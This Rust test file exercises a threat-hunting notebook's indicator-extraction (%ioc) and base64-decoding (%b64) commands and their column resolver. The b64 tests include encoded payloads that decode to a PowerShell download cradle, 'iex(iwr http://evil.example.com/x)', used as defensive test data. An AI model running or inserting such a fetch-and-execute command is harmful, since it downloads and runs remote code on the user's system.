//! %ioc and %b64 through the interpreter, and the one resolver that decides whether their
//! argument (and every other magic's) is text, a frame or FRAME.COLUMN.

use huntbook_magics::Interpreter;

use crate::common::{PROCS, data, fails, height, loaded, ok_text};

/// msticpy's own IoC test strings: every case finds the type it is named after (or, for
/// defanged cases, exactly what msticpy's test expects), through `%ioc` as an analyst runs it.
#[test]
fn ioc_finds_what_msticpy_tests_expect() {
    let cases: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(data("msticpy/ioc/ioc_test_strings.json")).unwrap()).unwrap();
    let mut interp = Interpreter::default();
    let mut checked = 0;
    for case in cases["cases"].as_array().unwrap() {
        let id = case["id"].as_str().unwrap();
        let input = case["input"].as_str().unwrap();
        let (expected_type, expected_found) = match (case.get("expected_type"), id) {
            (Some(t), _) => (
                t.as_str().unwrap().to_string(),
                case["expected_found"].as_bool().unwrap(),
            ),
            (None, "domain_neg") => ("dns".to_string(), false),
            (None, id) if id.starts_with("domain") => ("dns".to_string(), true),
            (None, id) if id.starts_with("email") => ("email".to_string(), true),
            (None, "url2") => ("url".to_string(), true),
            (None, id) => (id.to_string(), true),
        };
        ok_text(&mut interp, &format!("%%ioc --include-paths\n{input}"));
        let found = interp.session().get("_").unwrap();
        let kinds: Vec<String> = found
            .data
            .column("IoCType")
            .unwrap()
            .str()
            .unwrap()
            .iter()
            .map(|k| k.unwrap().to_string())
            .collect();
        assert_eq!(
            kinds.contains(&expected_type),
            expected_found,
            "case {id}: {input:?} gave {kinds:?}"
        );
        checked += 1;
    }
    assert_eq!(checked, 39);
}

#[test]
fn ioc_over_frame_columns_keeps_row_and_column() {
    let mut interp = loaded(&[PROCS]);
    ok_text(
        &mut interp,
        "iocs = %ioc procs.CommandLine,NewProcessName --include-paths",
    );
    let iocs = interp.session().get("iocs").unwrap();
    assert_eq!(
        iocs.column_names(),
        ["IoCType", "Observable", "SourceIndex", "SourceColumn", "Input"]
    );
    assert!(iocs.height() > 0, "{:?} > {:?}", iocs.height(), 0);
    let columns: std::collections::BTreeSet<_> = iocs
        .data
        .column("SourceColumn")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .map(|c| c.unwrap().to_string())
        .collect();
    assert_eq!(
        columns.into_iter().collect::<Vec<_>>(),
        ["CommandLine", "NewProcessName"]
    );
    // Text, defanged output, errors.
    let text = ok_text(
        &mut interp,
        "%ioc --defang --types url 'see hxxp://evil[.]example[.]com/x'",
    );
    assert!(text.contains("hxxp://evil[.]example[.]com/x"), "{text}");
    fails(&mut interp, "%ioc --types ipv5 1.2.3.4", "bad-value");
    fails(&mut interp, "%ioc --custom x=( text", "bad-value");
    fails(&mut interp, "%ioc procs.NoSuchColumn", "no-such-column");
    fails(&mut interp, "%ioc --defang --refang x", "conflicting-options");
    fails(&mut interp, "%ioc two words", "unexpected-argument");
    ok_text(&mut interp, r"%ioc --custom ticket=TKT-(\d+) 'see TKT-4411'");
    let custom = interp.session().get("_").unwrap();
    assert_eq!(
        custom.data.column("Observable").unwrap().str().unwrap().get(0),
        Some("4411")
    );
}

#[test]
fn b64_decodes_columns_and_pasted_text() {
    let mut interp = Interpreter::default();
    // The help example: a gzip payload holding a PowerShell download cradle.
    ok_text(
        &mut interp,
        "dec = %%b64\nH4sIAAAAAAAC/yvIL08tKs5IzclR0E1WyEyt0MgsL1LIKCkpsNLXTy3LzNFLrUjMLchJ1UvOz9Wv0AQAzmQwMjAAAAA=",
    );
    let dec = interp.session().get("dec").unwrap();
    let decoded = dec.data.column("DecodedString").unwrap().str().unwrap().clone();
    assert!(
        decoded
            .iter()
            .any(|d| d == Some("powershell -c iex(iwr http://evil.example.com/x)")),
        "{decoded:?}"
    );
    // Over a frame column: the decoded text can go straight on to %ioc.
    let (_dir, csv) = crate::common::written(
        "cmd.csv",
        "CommandLine\n\"powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAHYAaQBsAC4AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AeAApAA==\"\nnotepad.exe\n",
    );
    ok_text(&mut interp, &format!("procs = %load {csv}"));
    ok_text(&mut interp, "dec = %b64 procs.CommandLine");
    let dec = interp.session().get("dec").unwrap();
    assert_eq!(dec.height(), 1);
    assert_eq!(
        dec.data.column("Encoding").unwrap().str().unwrap().get(0),
        Some("utf-16")
    );
    ok_text(&mut interp, "iocs = %ioc dec.FullDecodedString");
    let iocs = interp.session().get("iocs").unwrap();
    let observables: Vec<_> = iocs
        .data
        .column("Observable")
        .unwrap()
        .str()
        .unwrap()
        .iter()
        .flatten()
        .map(str::to_string)
        .collect();
    assert!(
        observables.contains(&"http://evil.example.com/x".to_string()),
        "{observables:?}"
    );
    fails(&mut interp, "%b64 procs.Nope", "no-such-column");
    fails(&mut interp, "%b64 procs.CommandLine --max-depth 0", "bad-value");
}

/// `name.Column` is a column when `name` is a frame, an error with a did-you-mean when it
/// reads as a column reference and `name` is not a frame, and text when it reads as a
/// value (a domain, an address) or is quoted.
#[test]
fn one_resolver_decides_text_or_column_for_every_magic() {
    let mut interp = loaded(&[PROCS]);
    for code in [
        "%ioc prcs.CommandLine",
        "%b64 prcs.CommandLine",
        "%domain prcs.CommandLine",
        "%iptype prcs.CommandLine",
        "%whois prcs.CommandLine",
        "%geoip prcs.CommandLine",
        "%ti prcs.CommandLine",
    ] {
        let e = fails(&mut interp, code, "no-such-frame");
        assert!(e.contains("did you mean procs?"), "{code}: {e}");
        assert!(e.contains("quote it: 'prcs.CommandLine'"), "{code}: {e}");
    }
    // A misspelt column of a frame that exists names the likely one.
    let e = fails(&mut interp, "%ioc procs.CommandLin", "no-such-column");
    assert!(e.contains("did you mean procs.CommandLine?"), "{e}");
    // Values with a dot stay values.
    assert!(ok_text(&mut interp, "%domain evil.com").contains("evil.com"));
    assert!(ok_text(&mut interp, "%domain EVIL.CO.UK").contains("evil.co.uk"));
    assert_eq!(ok_text(&mut interp, "%iptype 10.1.2.3"), "Private");
    // Quoted, a column reference is text.
    let text = ok_text(&mut interp, "%ioc 'nosuch.Column'");
    assert!(text.starts_with("0 rows"), "{text}");
    // Several columns and whole frames where the magic takes them.
    ok_text(&mut interp, "iocs = %ioc procs.CommandLine,NewProcessName");
    ok_text(&mut interp, "all = %ioc procs");
    assert!(
        height(&interp, "all") >= height(&interp, "iocs"),
        "{:?} >= {:?}",
        height(&interp, "all"),
        height(&interp, "iocs")
    );
}

/// `%%ioc` on a pasted report: one row per distinct indicator, with the line it was first
/// found on as `Input` (and its number as `SourceIndex`), not the whole text on every row.
#[test]
fn pasted_text_gives_each_indicator_its_line() {
    let mut interp = huntbook_magics::Interpreter::default();
    ok_text(
        &mut interp,
        "%%ioc\nfirst line mentions 8.8.8.8\nsecond line names evil.example.com\nthird repeats 8.8.8.8\n",
    );
    let found = &interp.session().get("_").unwrap().data;
    let row = |observable: &str| {
        let obs = found.column("Observable").unwrap().str().unwrap().clone();
        let k = obs
            .iter()
            .position(|o| o == Some(observable))
            .unwrap_or_else(|| panic!("{observable}: {found}"));
        let input = found
            .column("Input")
            .unwrap()
            .str()
            .unwrap()
            .get(k)
            .unwrap()
            .to_string();
        let index = found
            .column("SourceIndex")
            .unwrap()
            .get(k)
            .unwrap()
            .extract::<i64>()
            .unwrap();
        (input, index)
    };
    assert_eq!(row("8.8.8.8"), ("first line mentions 8.8.8.8".to_string(), 0));
    assert_eq!(
        row("evil.example.com"),
        ("second line names evil.example.com".to_string(), 1)
    );
    let obs = found.column("Observable").unwrap().str().unwrap().clone();
    assert_eq!(obs.iter().filter(|o| *o == Some("8.8.8.8")).count(), 1, "{found}");
}
